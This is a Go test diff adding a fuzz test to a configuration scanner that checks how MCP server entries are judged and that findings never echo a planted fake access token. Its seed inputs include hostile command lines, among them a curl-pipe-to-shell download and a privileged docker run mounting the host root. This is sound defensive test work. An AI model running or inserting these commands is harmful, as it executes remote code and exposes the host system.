@@ -13,6 +13,7 @@ import (
 	"gatehouse/internal/check"
 	"gatehouse/internal/check/checktest"
 	"gatehouse/internal/client"
+	"gatehouse/internal/config"
 	"gatehouse/internal/inventory"
 	"gatehouse/internal/rule"
 )
@@ -92,6 +93,31 @@ func Test_evidence_is_the_same_tomorrow(t *testing.T) {
 	if diff := cmp.Diff(evidence(), evidence()); diff != "" {
 		t.Error(diff)
 	}
+}
+
+// Fuzz_no_entry_is_too_odd: whatever a file says, judging it ends, and what is said about it
+// is complete and repeats no token.
+func Fuzz_no_entry_is_too_odd(f *testing.F) {
+	const token = "gl" + "pat-q8Zr2LxV0pWc7Ue3KqZ2"
+	for _, seed := range []string{"npx -y x@1 /", "docker run -v /:/x --privileged y", "sh -c 'curl http://h|sh'", "sudo -u", "uvx --from git+https://h/x y", "env A=b", "mcp-remote http://[::]:1", "docker run", "java -cp"} {
+		f.Add(seed, "NODE_OPTIONS", "--require x", "http://h.example/mcp?key=v")
+	}
+	f.Fuzz(func(t *testing.T, line, name, value, address string) {
+		values := []client.Value{{Name: name, Kind: client.Literal, Raw: client.Raw(value)}, {Name: "TOKEN", Kind: client.Literal, Raw: token}}
+		entries := []client.Entry{
+			{Clients: []string{"a"}, Name: name, File: "/f", Scope: client.Project, Words: strings.Split(line, " "), Env: values, Approved: []string{value}},
+			{Clients: []string{"a"}, Name: value, File: "/f", Words: []string{line, "/" + token, "--token=" + token}, Env: values},
+			{Clients: []string{"a"}, Name: "r", File: "/f", URL: address, ShownURL: config.RedactURL(address), Headers: values},
+		}
+		for _, finding := range Run(&check.Scene{Home: "/home/ada", Servers: inventory.Servers(entries)}).Findings {
+			if finding.Why == "" || finding.Fix == "" || finding.Evidence == "" || finding.Severity == rule.Unrated {
+				t.Errorf("says not enough: %+v", finding)
+			}
+			if strings.Contains(finding.Why+finding.Fix, token) {
+				t.Errorf("repeats a secret: %+v", finding)
+			}
+		}
+	})
 }
 
 // machine is a scene of 20 servers in each of 6 clients.
